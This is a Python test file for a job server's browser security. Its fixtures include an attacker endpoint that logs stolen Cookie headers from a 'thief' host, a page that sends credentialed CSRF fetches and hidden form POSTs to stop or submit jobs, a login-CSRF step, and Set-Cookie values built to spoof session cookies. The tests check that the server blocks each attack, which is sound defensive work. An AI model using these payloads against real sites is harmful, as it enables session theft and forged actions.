"""Who a browser is (docs/security.md, issue #23 C1, M6, L1, L4): a root
server with real accounts, and Debian's chromium (tests/ui/security_browser.js)
as the operator's browser.

The attacker owns a job whose endpoint "web" serves a page of its own making,
and the job listens on its own port too (the endpoint's $PORT on 127.0.0.1,
where it logs every request's Cookie header).  The operator (an admin: the
one-time login URL) opens that endpoint.  In Chromium:

  - C1: with `--endpoint-host ep.test` the page runs on JOB-web.ep.test; by
    fetch, form, navigation or its endpoint's redirect it neither reads nor
    uses the operator's API session: no /whoami read, no job stopped or
    submitted, and the job's own port never receives `trainctl_session`.
    (With the old `--endpoint-ports` the page ran on another port of
    127.0.0.1: the browser sent the session to the job's port.)
  - L4 and L1, with the API and the endpoints on one site (`--host-name
    api.site.localhost --endpoint-host ep.site.localhost`): the page's navigation to
    /login with the attacker's own ticket logs nobody in (Sec-Fetch-Site:
    same-site is refused), and its endpoint's `Set-Cookie:
    trainctl_session<TAB>=...` and `Domain=site.localhost` cookies never reach the
    browser: the operator stays the operator.

Over HTTP alone:
  - M6: a session made from a token (POST /api/v1/login's ticket, POST
    /api/v1/session), and an endpoint's cookie made from one, end when the
    token is revoked: the next request is 401;
  - L1: the proxy drops an endpoint's Set-Cookie of trainctl's names however
    spelt (a TAB before '=', case, __Host-) and any with a Domain;
  - L4: /login refuses Sec-Fetch-Site same-site as it does cross-site;
  - --behind-https: the cookies are __Host- and Secure, endpoint links https.
And in the sources: one function sets each cookie, one makes sessions (a
second door fails test_one_door_for_browser_credentials).
Screenshots go to build/test-artifacts/ui/."""
import json
import os
import subprocess
import urllib.parse

import pytest

from conftest import REPO, chromium_or_fail, wait_until
from endpoint_helpers import echo_job, open_endpoint, request, session
from server_fixture import endpoint_up, root_server, token_for

# The attacker's endpoint: argv PORT LOG PAGE.  "/" is PAGE (with hostile cookies), "/redirect"
# a 302 to its own port, "/steal" on its own port logs the Cookie header it got.
ENDPOINT = r'''
import http.server, json, sys, urllib.parse
PORT, LOG, PAGE = int(sys.argv[1]), sys.argv[2], sys.argv[3]
HOSTILE = ["trainctl_session\t=planted; Path=/", "Trainctl_Session=planted2; Path=/",
           "__Host-trainctl_session=planted3; Path=/; Secure", "tossed=1; Domain=site.localhost; Path=/",
           "tossed2=1; Domain=127.0.0.1; Path=/", "own=1; Path=/"]
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        u = urllib.parse.urlsplit(self.path)
        with open(LOG, "a") as f:
            f.write(json.dumps({"path": self.path, "host": self.headers.get("Host", ""),
                                "cookie": self.headers.get("Cookie", "")}) + "\n")
        if u.path == "/redirect":
            self.send_response(302)
            self.send_header("Location", f"http://{THIEF_HOST}:{PORT}/steal?how=redirect")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if u.path == "/steal":
            # no favicon: a page on another port of the API's host that fetches anything of
            # its own gets the API's cookie (same site; cookies ignore ports). That is plain
            # http's limit (docs/security.md), not the endpoint's: measured is the hop here
            body = b'<!doctype html><link rel="icon" href="data:,"><p id=stolen>logged</p>'

        elif u.path == "/":
            body = open(PAGE).read().replace("%THIEF%", f"http://{THIEF_HOST}:{PORT}").encode()
        else:  # the browser's /favicon.ico
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        for c in HOSTILE if u.path == "/" else []:  # the page's, through the proxy
            self.send_header("Set-Cookie", c)
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
THIEF_HOST = sys.argv[4]
http.server.ThreadingHTTPServer(("127.0.0.1", PORT), H).serve_forever()
'''

PAGE = r'''<!doctype html><html><head><title>a job's page</title><link rel="icon" href="data:,"></head><body>
<pre id="result"></pre><iframe name="sink" style="display:none"></iframe><script>
const API = "%API%", JOB = "%JOB%", THIEF = "%THIEF%", LOGIN = "%LOGIN%";
const phase = new URLSearchParams(location.search).get("phase");
function post(action, fields) {
  // an HTML form: text/plain, the browser's cookies, into a hidden frame
  return new Promise(done => {
    const f = document.createElement("form");
    f.method = "POST"; f.action = action; f.enctype = "text/plain"; f.target = "sink";
    for (const [k, v] of Object.entries(fields)) {
      const i = document.createElement("input"); i.name = k; i.value = v; f.appendChild(i);
    }
    document.body.appendChild(f);
    document.querySelector("iframe").addEventListener("load", done, { once: true });
    f.submit();
  });
}
(async () => {
  if (phase === "nav") { location.href = THIEF + "/steal?how=navigation"; return; }
  if (phase === "login") { location.href = API + LOGIN; return; }
  const r = { origin: location.origin, cookies: document.cookie };
  try {
    const a = await fetch(`${API}/api/v1/whoami`, { credentials: "include" });
    r.read = "read: " + await a.text();
  } catch (e) { r.read = "blocked"; }
  for (const [k, url, body] of [["stop", `${API}/api/v1/jobs/${JOB}/stop`, "{}"],
      ["submit", `${API}/api/v1/jobs`, JSON.stringify({ spec: { name: "forged-fetch", command: "true" } })]]) {
    try {
      await fetch(url, { method: "POST", mode: "no-cors", credentials: "include",
                         headers: { "Content-Type": "text/plain" }, body });
      r[k] = "sent";
    } catch (e) { r[k] = "error: " + e; }
  }
  await post(`${API}/api/v1/jobs`, { '{"spec":{"name":"forged-form","command":"true"},"x":"': '"}' });
  await post(`${API}/api/v1/jobs/${JOB}/stop`, { x: "1" });
  r.forms = "sent";
  document.getElementById("result").textContent = JSON.stringify(r);
  const d = document.createElement("i"); d.id = "done"; document.body.appendChild(d);
})();
</script></body></html>
'''


def attacker_job(srv, u, api, thief_host, login=""):
    """The attacker's job, its endpoint serving PAGE: (job, the log of its own port)."""
    home = f"/home/{u['own']}"
    log = f"{home}/cookies.log"
    for name, text in (("ep.py", ENDPOINT), ("page.html", "")):
        with open(f"{home}/{name}", "w") as f:
            f.write(text)
        os.chmod(f"{home}/{name}", 0o644)
    job = srv.submit({"name": "bait", "command": "sleep 600", "workdir": home,
                      "endpoints": [{"name": "web", "command":
                                     f"python3 {home}/ep.py $PORT {log} {home}/page.html {thief_host}"}]})
    with open(f"{home}/page.html", "w") as f:
        f.write(PAGE.replace("%API%", api).replace("%JOB%", job).replace("%LOGIN%", login))
    srv.wait_state(job, "running")
    wait_until(lambda: endpoint_up(srv, job), what=lambda: srv.run_logs(job))
    return job, log


def logged(log):
    """What the attacker's endpoint was sent: [{path, host, cookie}]."""
    try:
        with open(log) as f:
            return [json.loads(line) for line in f if line.strip()]
    except FileNotFoundError:
        return []


def run_browser(node, api, login, job, phases, srv):
    out = REPO / "build" / "test-artifacts" / "ui"
    out.mkdir(parents=True, exist_ok=True)
    try:
        p = subprocess.run([node, str(REPO / "tests" / "ui" / "security_browser.js"), api, login, job,
                            str(out), *phases], capture_output=True, text=True, timeout=600)
    except subprocess.TimeoutExpired as e:
        pytest.fail(f"security_browser.js ran past 600 s\nstdout: {e.stdout}\nstderr: {e.stderr}\n"
                    f"server log:\n{srv.log()[-3000:]}", pytrace=False)
    lines = p.stdout.strip().splitlines()
    assert lines, f"security_browser.js printed nothing (exit {p.returncode})\nstderr: {p.stderr}"
    r = json.loads(lines[-1])
    why = f"\n{json.dumps(r, indent=1)}\nstderr: {p.stderr[-2000:]}\nserver log:\n{srv.log()[-3000:]}"
    assert p.returncode == 0 and "error" not in r, why
    return r, why


def jobs_named(srv, *names):
    listed = srv.call("GET", "/api/v1/jobs?limit=1000", token="", unix=True)[1]["jobs"]
    return [j for j in listed if j["name"] in names]


def session_of(cookies):
    return [c for c in cookies if c.split("=", 1)[0].lower().endswith("trainctl_session")]


def on_host(url, host):
    """url with its host name replaced (the port kept)."""
    u = urllib.parse.urlsplit(url)
    return u._replace(netloc=f"{host}:{u.port}").geturl()


def test_endpoint_page_gets_no_api_session(trainctl):
    """C1: the operator opens the attacker's endpoint; its page on JOB-web.ep.test tries
    every way to the operator's session: it gets none, and changes nothing."""
    node = chromium_or_fail()
    with root_server(trainctl, "tc-sbc-", "own", args=["--endpoint-host", "ep.test"]) as (srv, u, _):
        job, log = attacker_job(srv, u, srv.url, "127.0.0.1")
        r, why = run_browser(node, srv.url, srv.login_url(), job, ["fetch", "redirect", "nav"], srv)
        why += f"\nthe job's port got: {json.dumps(logged(log), indent=1)}"
        before = session_of(r["cookies_before"])
        assert before, why

        # the page ran on the endpoint's own host name, and saw no trainctl cookie there
        f = r["phases"]["fetch"]
        assert urllib.parse.urlsplit(f["url"]).hostname == f"{job}-web.ep.test", why
        assert "trainctl" not in f["page"]["cookies"].lower() and "own=1" in f["page"]["cookies"], why
        # fetch: no read; its POSTs and forms went out, and did nothing
        assert f["page"]["read"] == "blocked", why
        assert f["page"]["stop"] == "sent" and f["page"]["submit"] == "sent", why
        assert f["page"]["forms"] == "sent", why
        assert srv.job(job)["state"] == "running", why
        assert not jobs_named(srv, "forged-fetch", "forged-form"), why

        # navigation and redirect to the job's own port: they arrived, without the session
        steals = [e for e in logged(log) if e["path"].startswith("/steal")]
        assert {e["path"] for e in steals} >= {"/steal?how=navigation", "/steal?how=redirect"}, why
        assert not [e for e in steals if "trainctl_session" in e["cookie"]], why
        assert not [e for e in logged(log) if "trainctl_session" in e["cookie"]], why

        # the browser is still the operator's, with the very same session
        assert r["whoami_status"] == 200 and json.loads(r["whoami"])["admin"] is True, why
        assert session_of(r["cookies_after"]) == before, why
        st, _ = srv.call("POST", f"/api/v1/jobs/{job}/stop", {})
        assert st == 200


def test_same_site_endpoint_page(trainctl):
    """L4 and L1 where the API and the endpoints share a site (api.site.localhost,
    *.ep.site.localhost): the page's login CSRF and its endpoint's cookies get nowhere."""
    node = chromium_or_fail()
    with root_server(trainctl, "tc-sbs-", "own",
                     args=["--host-name", "api.site.localhost", "--endpoint-host", "ep.site.localhost"]
                     ) as (srv, u, _):
        # *.localhost: a secure context, where browsers send Sec-Fetch-Site (they send it to
        # https and localhost only); site.localhost: the site both names share
        api = f"http://api.site.localhost:{srv.port}"
        # the attacker's own one-time login link, for the page to push on the operator
        st, _, t = request(srv.port, "POST", "/api/v1/login",
                           headers={"Authorization": f"Bearer {srv.token}"}, body={})
        assert st == 201, t
        job, log = attacker_job(srv, u, api, "api.site.localhost", login=t["path"])
        r, why = run_browser(node, api, on_host(srv.login_url(), "api.site.localhost"), job,
                             ["fetch", "login"], srv)
        before = session_of(r["cookies_before"])
        assert before, why

        f = r["phases"]["fetch"]
        assert urllib.parse.urlsplit(f["url"]).hostname == f"{job}-web.ep.site.localhost", why
        assert "trainctl" not in f["page"]["cookies"].lower(), why
        assert f["page"]["read"] == "blocked", why
        assert srv.job(job)["state"] == "running" and not jobs_named(srv, "forged-fetch", "forged-form"), why

        # L4: /login from the endpoint's page (same-site) is refused; the ticket is left unused
        lg = r["phases"]["login"]
        assert "/login?ticket=" in lg["url"] and "must be opened directly" in lg["text"], why
        # L1: no planted or tossed cookie on the API's host; the operator is still the operator
        assert r["cookies_after"] == r["cookies_before"], why
        who = json.loads(r["whoami"])
        assert r["whoami_status"] == 200 and who["admin"] is True and who["user"] != u["own"], why
        st, hdrs, body = request(srv.port, "GET", t["path"])
        assert st == 303, (st, body)  # the attacker's ticket: never used by the operator's browser
        st, _ = srv.call("POST", f"/api/v1/jobs/{job}/stop", {})
        assert st == 200


def test_revoked_token_ends_its_sessions(trainctl):
    """M6: every session made from a token ends with it, at once."""
    import hashlib
    with root_server(trainctl, "tc-sbm-", "own", args=["--endpoint-host", "ep.test"]) as (srv, u, _):
        job = echo_job(srv, u, name="m6")
        tok = token_for(trainctl, srv.state, u["own"])  # a second token of the owner, to revoke
        # a login link of the token (POST /api/v1/login), used: a session
        st, _, t = request(srv.port, "POST", "/api/v1/login",
                           headers={"Authorization": f"Bearer {tok}"}, body={})
        assert st == 201, t
        st, hdrs, body = request(srv.port, "GET", t["path"])
        assert st == 303, body
        by_link = hdrs["Set-Cookie"].split(";")[0]
        by_post = session(srv, tok)  # POST /api/v1/session
        host, ep_ck, loc = open_endpoint(srv, by_post, f"/jobs/{job}/endpoints/web/")
        for ck in (by_link, by_post):
            st, _, body = request(srv.port, "GET", "/api/v1/whoami", cookie=ck)
            assert st == 200 and body["user"] == u["own"], body
        st, _, _ = request(srv.port, "GET", loc, cookie=ep_ck, host=host)
        assert st == 200

        tid = hashlib.sha256(tok.encode()).hexdigest()[:12]
        p = subprocess.run([str(trainctl), "token", "revoke", tid],
                           env=dict(os.environ, TRAINCTL_HOME=srv.state), capture_output=True, text=True)
        assert p.returncode == 0, p.stderr
        for ck in (by_link, by_post):
            st, _, body = request(srv.port, "GET", "/api/v1/whoami", cookie=ck)
            assert st == 401, (ck, st, body)
        st, _, body = request(srv.port, "GET", loc, cookie=ep_ck, host=host)
        assert st == 401, body
        # the other token of the same user, and its sessions, live on
        st, _, body = request(srv.port, "GET", "/api/v1/whoami", cookie=session(srv, srv.token))
        assert st == 200, body
        st, _ = srv.call("POST", f"/api/v1/jobs/{job}/stop", {})
        assert st == 200


def test_endpoint_cannot_set_trainctl_cookies(trainctl):
    """L1: an endpoint answering Set-Cookie: trainctl_session<TAB>=x (and the like) through
    the proxy (the owner's browser, on the API's own host): none of them comes through."""
    with root_server(trainctl, "tc-sbl-", "own") as (srv, u, _):
        job, _ = attacker_job(srv, u, srv.url, "127.0.0.1")
        st, hdrs, body = request(srv.port, "GET", f"/jobs/{job}/endpoints/web/",
                                 cookie=session(srv, srv.token))
        assert st == 200, body
        got = hdrs.get_all("Set-Cookie") or []
        assert got == ["own=1; Path=/"], got
        st, _ = srv.call("POST", f"/api/v1/jobs/{job}/stop", {})
        assert st == 200


def test_login_refuses_same_site(trainctl):
    """L4: a login link followed from the same site (a job's endpoint host) is refused, as
    from another site; opened directly or from the UI it works."""
    with root_server(trainctl, "tc-sb4-", "own") as (srv, u, _):
        for site in ("same-site", "cross-site"):
            st, _, t = request(srv.port, "POST", "/api/v1/login",
                               headers={"Authorization": f"Bearer {srv.token}"}, body={})
            assert st == 201, t
            st, hdrs, body = request(srv.port, "GET", t["path"], headers={"Sec-Fetch-Site": site})
            assert st == 403 and "opened directly" in body["error"], (site, st, body)
            assert "Set-Cookie" not in hdrs
            st, hdrs, body = request(srv.port, "GET", t["path"], headers={"Sec-Fetch-Site": "none"})
            assert st == 303 and hdrs["Set-Cookie"].startswith("trainctl_session="), (st, body)


def test_behind_https_cookies(trainctl):
    """--behind-https: the session cookie is __Host- and Secure, and only that name is read;
    endpoint links are https and their cookie __Host- too."""
    with root_server(trainctl, "tc-sbh-", "own",
                     args=["--behind-https", "--endpoint-host", "ep.test"]) as (srv, u, _):
        st, hdrs, body = request(srv.port, "POST", "/api/v1/session",
                                 headers={"Authorization": f"Bearer {srv.token}"}, body={})
        assert st == 200, body
        attrs = [a.strip() for a in hdrs["Set-Cookie"].split(";")]
        assert attrs[0].startswith("__Host-trainctl_session=") and "Secure" in attrs, attrs
        assert "Path=/" in attrs and not [a for a in attrs if a.lower().startswith("domain")], attrs
        ck = attrs[0]
        st, _, body = request(srv.port, "GET", "/api/v1/whoami", cookie=ck)
        assert st == 200 and body["user"] == u["own"], body
        # the unprefixed name, as a plain-http page could set it: nobody
        st, _, body = request(srv.port, "GET", "/api/v1/whoami",
                              cookie=ck.replace("__Host-trainctl_session", "trainctl_session"))
        assert st == 401, body
        job = echo_job(srv, u, name="hs")
        st, hdrs, body = request(srv.port, "GET", f"/jobs/{job}/endpoints/web/", cookie=ck)
        assert st == 302 and hdrs["Location"].startswith(f"https://{job}-web.ep.test:{srv.port}/"), \
            (st, hdrs.get("Location"), body)
        enter = urllib.parse.urlsplit(hdrs["Location"])
        st, hdrs, body = request(srv.port, "GET", f"{enter.path}?{enter.query}", host=f"{job}-web.ep.test")
        assert st == 200, body
        attrs = [a.strip() for a in hdrs["Set-Cookie"].split(";")]
        assert attrs[0].startswith("__Host-trainctl_endpoint=") and "Secure" in attrs, attrs
        st, _ = srv.call("POST", f"/api/v1/jobs/{job}/stop", {})
        assert st == 200


def test_one_door_for_browser_credentials():
    """One function sets the API's cookie (api.c reply_cookie, for start_session and logout),
    one the endpoint's (eporigin.c ep_enter), and the proxy passes an endpoint's Set-Cookie
    through one filter (proxy_set_cookie_ok): a new Set-Cookie or session anywhere else in the
    sources is a second door, and fails here until it goes through these."""
    import re
    doors = {}
    for path in sorted((REPO / "src").rglob("*.c")):
        text = path.read_text(errors="replace")
        rel = str(path.relative_to(REPO))
        for m in re.finditer(r'MHD_add_response_header\([^;]*"Set-Cookie"', text):
            fn = re.findall(r"\n(?:static )?[a-z_ ]+\*?\b(\w+)\([^;{]*\)\n\{", text[:m.start()])
            doors.setdefault("Set-Cookie", []).append((rel, fn[-1] if fn else "?"))
        for m in re.finditer(r"sessions_add\([^;]*SESS_COOKIE", text):
            fn = re.findall(r"\n(?:static )?[a-z_ ]+\*?\b(\w+)\([^;{]*\)\n\{", text[:m.start()])
            doors.setdefault("session", []).append((rel, fn[-1] if fn else "?"))
    assert sorted(doors.get("Set-Cookie", [])) == [("src/api/api.c", "reply_cookie"),
                                                   ("src/gateway/eporigin.c", "ep_enter")], doors
    assert doors.get("session") == [("src/api/api.c", "start_session")], doors
    proxy = (REPO / "src" / "gateway" / "proxy.c").read_text()
    assert proxy.count('"Set-Cookie"') == 1 and "proxy_set_cookie_ok(value)" in proxy
